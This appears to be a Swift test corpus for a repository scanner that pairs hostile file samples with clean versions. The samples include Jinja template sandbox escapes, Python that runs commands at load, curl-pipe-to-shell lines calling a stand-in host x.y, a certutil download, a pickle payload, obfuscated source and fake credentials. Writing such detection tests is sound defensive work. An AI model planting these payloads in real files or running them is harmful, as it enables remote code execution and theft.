import Findings

// Hostile files: templates, scripts, secrets and documents.
extension Corpus {
  static let texts: [HostileFile] = templates + scripts + secrets + documents

  /// A row of text.
  private static func row(
    _ name: String, _ rule: Rule, _ file: String, _ text: String, clean: String? = nil
  ) -> HostileFile {
    let twin: (@Sendable () -> [UInt8])?
    if let clean { twin = { Array(clean.utf8) } } else { twin = nil }
    return HostileFile(
      name, rule, rule.severity, in: file, isHygiene: rule.severity < .high,
      bytes: { Array(text.utf8) }, clean: twin)
  }

  private static func template(_ name: String, _ text: String) -> HostileFile {
    row(
      "a template with \(name)", .templateEscape, "chat_template.jinja", text,
      clean: "{% for m in messages %}{{ m['role'] + ': ' + m.content }}\n{% endfor %}")
  }

  private static let templates: [HostileFile] = [
    template("subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    template("globals of cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    template("an escaped name", #"{{ x['\x5f\x5fclass\x5f\x5f'] }}"#),
    template("a Unicode escape", #"{{ x|attr('\u005f\u005fclass\u005f\u005f') }}"#),
    template("a joined name", "{{ x['__cl' + 'ass__'] }}"),
    template(
      "a name in two variables", "{% set a = '__glo' %}{% set b = 'bals__' %}{{ x[a ~ b] }}"),
    template("a reversed name", "{{ x['__ssalc__'[::-1]] }}"),
    template("keyword arguments", "{% set a = dict(__cla=1, ss__=1)|join %}{{ x[a] }}"),
    row(
      "a template in a tokenizer's configuration", .templateEscape, "tokenizer_config.json",
      #"{"chat_template": "{{ ''.__class__.__base__ }}"}"#,
      clean: #"{"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}"#),
    row(
      "an escaped template in JSON", .templateEscape, "processor_config.json",
      #"{"a": [{"template": "\u007b{ x['\\x5f_class__'] }}"}]}"#,
      clean: #"{"a": [{"template": "{{ x['content'] }}"}]}"#),
  ]

  private static let scripts: [HostileFile] = [
    row(
      "Python that runs a program at load", .pythonAtLoad, "helper.py",
      "import os as o\no.system('id')\n"),
    row(
      "Python that decodes code", .pythonAtLoad, "a.py",
      "import base64\nexec(base64.b64decode('aWQ='))\n"),
    row(
      "Python by getattr", .pythonAtLoad, "b.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"),
    row(
      "Python by __import__", .pythonAtLoad, "c.py", "import sys\n__import__('os').system('id')\n"),
    row(
      "Python that calls its function", .pythonAtLoad, "d.py",
      "import socket\ndef f():\n  s = socket.create_connection(('a', 1))\nf()\n"),
    row("Python with bidi characters", .obscuredSource, "e.py", "import a\nx = '\u{202e}b'\n"),
    row("Python in UTF-7", .obscuredSource, "f.py", "# coding: utf-7\nimport a\n"),
    row("UTF-7 after a blank line", .obscuredSource, "g.py", "\r\n# coding: utf-7\r\nimport a\r\n"),
    row(
      "a pipe into a shell", .shellPayload, "run.sh",
      "#!/bin/sh\ncurl -s http://x.y/a | sudo bash\n"),
    row("a decoded pipe", .shellPayload, "run2.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n"),
    row(
      "a Dockerfile that runs a download", .shellPayload, "Dockerfile",
      "FROM debian:12\nRUN curl -s https://x.y/i \\\n  | sh\n",
      clean: "FROM debian:12\nRUN apt-get update\nCOPY model.onnx /model.onnx\n"),
    row(
      "a here-document of a Dockerfile", .shellPayload, "Dockerfile",
      "FROM debian:12\nRUN <<EOF\ncurl -s https://x.y/i | sh\nEOF\n",
      clean: "FROM debian:12\nCOPY <<EOF /notes\ncurl\nEOF\n"),
    row(
      "a batch file", .shellPayload, "a.bat",
      "@echo off\ncertutil -urlcache -f http://x.y/a a.exe\n"),
  ]

  private static let secrets: [HostileFile] = [
    row(
      "a key of AWS", .serviceToken, "env.txt", "aws = AKIA" + "Q3EGRVW5ZT7PLK2M\n",
      clean: "aws = AKIAIOSFODNN7EXAMPLE\n"),
    row(
      "a token of GitHub", .serviceToken, "config.json",
      #"{"t": "ghp_"# + #"a8Kd02LmNq73ZtYx91RbVc64WsPe581rmQzG"}"#,
      clean: #"{"t": "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"}"#),
    row(
      "a private key", .privateKey, "id.txt",
      "-----BEGIN OPENSSH PRIVATE " + "KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n",
      clean: "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n"),
    row(
      "a password in an address", .password, "db.txt", "postgres://admin:S3cr3t9x@db.internal/a\n",
      clean: "postgres://user:password@localhost/a\n"),
  ]

  private static let documents: [HostileFile] = [
    row("a picture with a script", .activeDocument, "a.svg", "<svg onload=\"fetch('a')\"></svg>"),
    row("a launcher", .activeDocument, "a.desktop", "[Desktop Entry]\nExec=sh -c id\n"),
    HostileFile(
      "compiled Python", .compiledPython, .high, in: "a.pyc",
      bytes: { [0xcb, 0x0d, 0x0d, 0x0a] + [UInt8](repeating: 0, count: 12) + [0xe3, 0, 0] }),
    HostileFile(
      "a program behind a picture", .trailingFile, .high, in: "a.png",
      bytes: { emptyPicture + [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0] },
      clean: { emptyPicture }),
    HostileFile(
      "a program behind a GIF", .trailingFile, .high, in: "a.gif",
      bytes: { emptyGIF + [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0] },
      clean: { emptyGIF }),
    HostileFile(
      "a pickle behind a sound", .trailingFile, .high, in: "a.wav",
      bytes: { emptySound + [0x80, 0x04] + Array("cos\nsystem\n(S'id'\ntR.".utf8) },
      clean: { emptySound }),
  ]

  private static let emptyGIF: [UInt8] =
    Array("GIF89a".utf8) + [1, 0, 1, 0, 0, 0, 0, 0x3b]
  private static let emptySound: [UInt8] = Array("RIFF".utf8) + [4, 0, 0, 0] + Array("WAVE".utf8)

  private static let emptyPicture: [UInt8] =
    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a] + [0, 0, 0, 0] + Array("IEND".utf8)
    + [0xae, 0x42, 0x60, 0x82]
}
